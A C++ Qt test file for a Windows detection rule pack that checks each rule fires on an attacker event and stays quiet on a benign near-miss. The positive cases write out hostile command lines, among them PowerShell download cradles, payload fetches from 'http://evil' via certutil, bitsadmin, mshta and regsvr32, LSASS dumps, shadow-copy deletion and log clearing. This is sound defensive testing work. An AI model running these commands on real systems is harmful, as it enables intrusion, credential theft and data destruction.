// SPDX-License-Identifier: GPL-3.0-or-later
// The built-in rule pack (resources/rules): every rule loads, carries ATT&CK
// tags and EN/JA notes, fires on an attacker's event and stays quiet on a
// near-miss an administrator might produce.

#include <QtTest>

#include "core/detect/rule_set.h"
#include "core/detect/rule_tags.h"
#include "core/detect/sigma_event_view.h"
#include "tests_support/test_paths.h"

using namespace hitome::core;

namespace {

WinEvent process(const std::string& image, const std::string& commandLine) {
    WinEvent e;
    e.channel = "Microsoft-Windows-Sysmon/Operational";
    e.provider = "Microsoft-Windows-Sysmon";
    e.eventId = 1;
    e.data = {{"Image", image}, {"CommandLine", commandLine}, {"ParentImage", "C:\\Windows\\System32\\cmd.exe"}};
    return e;
}

WinEvent channelEvent(const std::string& channel, std::uint32_t id, std::vector<EventField> data,
                      const std::string& provider = {}) {
    WinEvent e;
    e.channel = channel;
    e.provider = provider;
    e.eventId = id;
    e.data = std::move(data);
    return e;
}

const std::string kSys = "C:\\Windows\\System32\\";

struct Case {
    const char* rule;   // file name without .yml
    WinEvent positive, nearMiss;
};

std::vector<Case> cases() {
    const std::string sysmon = "Microsoft-Windows-Sysmon/Operational";
    return {
        {"hitome_schtasks_create_as_system",
         process(kSys + "schtasks.exe", "schtasks /create /tn upd /tr C:\\x.exe /sc onstart /ru SYSTEM"),
         process(kSys + "schtasks.exe", "schtasks /query /tn upd /v")},
        {"hitome_schtasks_create_suspicious_action",
         process(kSys + "schtasks.exe", "schtasks /create /SC ONCE /TN Troj /TR C:\\Users\\x\\Desktop\\Backdoor.exe /ST 13:36 /F"),
         process(kSys + "schtasks.exe", "schtasks /create /tn Backup /tr \"C:\\Program Files\\Backup\\run.exe\" /sc daily")},
        {"hitome_at_job_created", process(kSys + "at.exe", "at \\\\10.0.0.5 13:20 c:\\temp\\a.bat"),
         process(kSys + "at.exe", "at")},
        {"hitome_task_registered_suspicious_action",
         channelEvent("Security", 4698, {{"TaskName", "\\Upd"}, {"TaskContent", "<Exec><Command>powershell.exe</Command></Exec>"}}),
         channelEvent("Security", 4698, {{"TaskName", "\\Defrag"}, {"TaskContent", "<Exec><Command>%windir%\\system32\\defrag.exe</Command></Exec>"}})},
        {"hitome_powershell_encoded_command",
         process(kSys + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
         process(kSys + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell -ExecutionPolicy Bypass -File C:\\scripts\\report.ps1")},
        {"hitome_powershell_hidden_noninteractive",
         process(kSys + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NonI -W Hidden -c calc"),
         process(kSys + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NonInteractive -File C:\\admin\\x.ps1")},
        {"hitome_powershell_download_cradle_cli",
         process(kSys + "WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"),
         process(kSys + "WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell (New-Object Net.WebClient).DownloadFile('http://intranet/tool.zip','C:\\t\\tool.zip')")},
        {"hitome_ps_script_download_cradle",
         channelEvent("Microsoft-Windows-PowerShell/Operational", 4104,
                      {{"ScriptBlockText", "$s=(New-Object Net.WebClient).DownloadString($u); IEX $s"}}),
         channelEvent("Microsoft-Windows-PowerShell/Operational", 4104,
                      {{"ScriptBlockText", "Invoke-WebRequest -Uri $u -OutFile report.csv"}})},
        {"hitome_registry_run_key_set",
         channelEvent(sysmon, 13, {{"TargetObject", "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd"},
                                   {"Details", "C:\\Users\\x\\AppData\\Roaming\\upd.exe"}}),
         channelEvent(sysmon, 13, {{"TargetObject", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth"},
                                   {"Details", "C:\\Windows\\system32\\SecurityHealthSystray.exe"}})},
        {"hitome_reg_add_run_key",
         process(kSys + "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d c:\\x.exe"),
         process(kSys + "reg.exe", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")},
        {"hitome_wmic_remote_process_create",
         process(kSys + "wbem\\WMIC.exe", "wmic /node:10.0.0.7 /user:adm process call create \"cmd /c c:\\x.bat\""),
         process(kSys + "wbem\\WMIC.exe", "wmic process call create notepad.exe")},
        {"hitome_net_user_add", process(kSys + "net.exe", "net user backup P@ss /add"),
         process(kSys + "net.exe", "net user backup")},
        {"hitome_net_group_add", process(kSys + "net1.exe", "net1 localgroup administrators backup /add"),
         process(kSys + "net1.exe", "net1 localgroup administrators")},
        {"hitome_security_group_member_added",
         channelEvent("Security", 4732, {{"TargetUserName", "Administrators"}, {"MemberSid", "S-1-5-21-1-2-3-1001"}}),
         channelEvent("Security", 4732, {{"TargetUserName", "Print Operators Helpers"}, {"TargetSid", "S-1-5-21-1-2-3-1200"}})},
        {"hitome_sc_create_service", process(kSys + "sc.exe", "sc \\\\dc01 create upd binPath= c:\\x.exe"),
         process(kSys + "sc.exe", "sc query upd")},
        {"hitome_service_installed_7045",
         channelEvent("System", 7045, {{"ServiceName", "x"}, {"ImagePath", "%COMSPEC% /c c:\\windows\\temp\\a.bat"}},
                      "Service Control Manager"),
         channelEvent("System", 7045, {{"ServiceName", "Agent"}, {"ImagePath", "\"C:\\Program Files\\Agent\\agent.exe\""}},
                      "Service Control Manager")},
        {"hitome_rundll32_suspicious", process(kSys + "rundll32.exe", "rundll32 C:\\Users\\Public\\a.dll,Start"),
         process(kSys + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl")},
        {"hitome_regsvr32_scriptlet_remote",
         process(kSys + "regsvr32.exe", "regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll"),
         process(kSys + "regsvr32.exe", "regsvr32 /s C:\\Program Files\\App\\comp.dll")},
        {"hitome_mshta_remote_or_inline", process(kSys + "mshta.exe", "mshta http://evil/a.hta"),
         process(kSys + "mshta.exe", "mshta C:\\Program Files\\Vendor\\setup.hta")},
        {"hitome_certutil_download_decode",
         process(kSys + "certutil.exe", "certutil -urlcache -split -f http://evil/a.exe a.exe"),
         process(kSys + "certutil.exe", "certutil -store my")},
        {"hitome_bitsadmin_transfer",
         process(kSys + "bitsadmin.exe", "bitsadmin /transfer j /download http://evil/a.exe c:\\a.exe"),
         process(kSys + "bitsadmin.exe", "bitsadmin /list /allusers")},
        {"hitome_wevtutil_clear_log", process(kSys + "wevtutil.exe", "wevtutil cl Security"),
         process(kSys + "wevtutil.exe", "wevtutil qe Security /c:5")},
        {"hitome_event_log_cleared", channelEvent("Security", 1102, {{"SubjectUserName", "x"}}),
         channelEvent("Security", 4624, {{"SubjectUserName", "x"}})},
        {"hitome_vssadmin_delete_shadows", process(kSys + "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
         process(kSys + "vssadmin.exe", "vssadmin list shadows")},
        {"hitome_netsh_firewall_disabled", process(kSys + "netsh.exe", "netsh advfirewall set allprofiles state off"),
         process(kSys + "netsh.exe", "netsh advfirewall set allprofiles state on")},
        {"hitome_lsass_memory_access",
         channelEvent(sysmon, 10, {{"SourceImage", "C:\\Users\\x\\m.exe"}, {"TargetImage", "C:\\Windows\\system32\\lsass.exe"},
                                   {"GrantedAccess", "0x1010"}}),
         channelEvent(sysmon, 10, {{"SourceImage", "C:\\Users\\x\\m.exe"}, {"TargetImage", "C:\\Windows\\system32\\lsass.exe"},
                                   {"GrantedAccess", "0x1000"}})},
        {"hitome_ntdsutil_ifm", process(kSys + "ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full c:\\t\" q q"),
         process(kSys + "ntdsutil.exe", "ntdsutil \"metadata cleanup\" q")},
        {"hitome_procdump_lsass", process("C:\\t\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe out.dmp"),
         process("C:\\t\\procdump64.exe", "procdump64.exe -ma w3wp.exe out.dmp")},
    };
}

}  // namespace

class TestRulePack : public QObject {
    Q_OBJECT

private slots:
    void initTestCase() {
        m_rules.addDirectory(hitome::test::resourcesDir() / "rules", m_report);
        m_rules.finalize();
    }

    void everyRuleLoadsWithTagsAndNotes() {
        for (const auto& e : m_report.errors) qWarning("%s: %s", e.source.c_str(), e.reason.c_str());
        QVERIFY(m_report.errors.empty());
        QVERIFY(m_report.unsupported.empty());
        QVERIFY(m_report.loaded >= 25);
        for (const auto& rule : m_rules.rules()) {
            const auto tags = parseAttackTags(rule.info.tags);
            QVERIFY2(!tags.techniques.empty() && !tags.tactics.empty(), rule.info.title.c_str());
            QVERIFY2(!rule.info.noteEn.empty() && !rule.info.noteJa.empty(), rule.info.title.c_str());
            QVERIFY2(!rule.info.id.empty(), rule.info.title.c_str());
        }
    }

    void everyRuleIsCoveredByACase() {
        QCOMPARE(cases().size(), m_rules.rules().size());
    }

    void firesOnAttackAndNotOnNearMiss() {
        SigmaEventView view(m_rules.fields());
        for (const auto& c : cases()) {
            const int index = indexOfFile(c.rule);
            QVERIFY2(index >= 0, c.rule);
            std::vector<int> hits;
            m_rules.match(c.positive, view, hits);
            QVERIFY2(std::find(hits.begin(), hits.end(), index) != hits.end(), c.rule);
            hits.clear();
            m_rules.match(c.nearMiss, view, hits);
            QVERIFY2(std::find(hits.begin(), hits.end(), index) == hits.end(), c.rule);
        }
    }

    void security4688FormFiresToo() {
        WinEvent e;
        e.channel = "Security";
        e.eventId = 4688;
        e.data = {{"NewProcessName", kSys + "vssadmin.exe"}, {"CommandLine", "vssadmin.exe Delete Shadows /All /Quiet"}};
        SigmaEventView view(m_rules.fields());
        std::vector<int> hits;
        m_rules.match(e, view, hits);
        QVERIFY(std::find(hits.begin(), hits.end(), indexOfFile("hitome_vssadmin_delete_shadows")) != hits.end());
    }

private:
    int indexOfFile(const std::string& name) const {
        for (size_t i = 0; i < m_rules.rules().size(); ++i)
            if (m_rules.rules()[i].info.sourcePath.ends_with("/" + name + ".yml")) return static_cast<int>(i);
        return -1;
    }

    RuleSet m_rules;
    RuleLoadReport m_report;
};

QTEST_APPLESS_MAIN(TestRulePack)
#include "test_rule_pack.moc"
